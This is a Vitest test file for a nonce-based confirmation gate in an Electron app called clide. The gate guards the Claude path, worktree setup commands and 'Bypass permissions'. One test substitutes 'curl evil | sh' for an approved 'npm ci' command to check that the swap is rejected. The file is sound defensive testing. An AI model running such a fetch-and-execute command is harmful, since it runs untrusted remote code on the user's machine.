import { describe, expect, it } from 'vitest';
import { Confirmations } from '../../../electron/core/confirmations';

describe('Confirmations', () => {
  it('takes a nonce once, for exactly the action and value it was given for', () => {
    const c = new Confirmations();
    const nonce = c.begin('claude-path', '/opt/claude');
    expect(() => c.take('claude-path', '/opt/claude', nonce)).not.toThrow();
    // Spent.
    expect(() => c.take('claude-path', '/opt/claude', nonce)).toThrow(/is not for this change or has expired/);
  });

  it('refuses another value or another action, and the nonce is spent by the try', () => {
    const c = new Confirmations();
    const nonce = c.begin('setup-command', '/r\nnpm ci');
    expect(() => c.take('setup-command', '/r\ncurl evil | sh', nonce)).toThrow(/A worktree setup command needs your confirmation/);
    expect(() => c.take('setup-command', '/r\nnpm ci', nonce)).toThrow();
    const other = c.begin('bypass-permissions', 's1');
    expect(() => c.take('default-bypass', 's1', other)).toThrow(/Making Bypass permissions the default/);
    expect(() => c.take('bypass-permissions', 's2', c.begin('bypass-permissions', 's1'))).toThrow();
  });

  it('refuses a call with no nonce or an unknown one', () => {
    const c = new Confirmations();
    expect(() => c.take('bypass-permissions', 's1', undefined)).toThrow("Turning on Bypass permissions needs your confirmation in clide's dialog.");
    expect(() => c.take('bypass-permissions', 's1', 'made-up')).toThrow(/is not for this change/);
  });

  it('expires', () => {
    let now = 1_000;
    const c = new Confirmations(() => now, 60_000);
    const nonce = c.begin('run-setup', 's1\nh1');
    now += 60_000;
    expect(() => c.take('run-setup', 's1\nh1', nonce)).toThrow(/has expired/);
    const fresh = c.begin('run-setup', 's1\nh1');
    now += 59_999;
    expect(() => c.take('run-setup', 's1\nh1', fresh)).not.toThrow();
  });

  it('holds a bounded number of open nonces, dropping the oldest', () => {
    const c = new Confirmations();
    const first = c.begin('claude-path', '/a');
    for (let i = 0; i < 64; i++) c.begin('claude-path', `/b${i}`);
    expect(() => c.take('claude-path', '/a', first)).toThrow();
    const last = c.begin('claude-path', '/c');
    expect(() => c.take('claude-path', '/c', last)).not.toThrow();
  });
});
